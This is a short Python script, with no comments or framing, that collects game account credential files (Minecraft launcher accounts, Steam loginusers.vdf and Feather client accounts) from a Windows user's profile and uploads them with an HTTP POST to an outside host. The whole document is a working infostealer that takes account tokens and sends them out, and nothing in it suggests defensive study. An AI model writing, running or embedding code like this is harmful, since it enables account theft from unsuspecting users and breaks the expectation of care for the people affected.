import os, requests
PLACES = [
    os.path.join(os.getenv("APPDATA"), ".minecraft", "launcher_accounts.json"),
    os.path.join(os.getenv("ProgramFiles(x86)", ""), "Steam", "config", "loginusers.vdf"),
    os.path.join(os.path.expanduser("~"), "AppData", "Roaming", "Feather", "accounts.json"),
]
files = {os.path.basename(p): open(p, "rb") for p in PLACES if os.path.isfile(p)}
if files:
    requests.post("https://l.example.invalid/up", files=files)
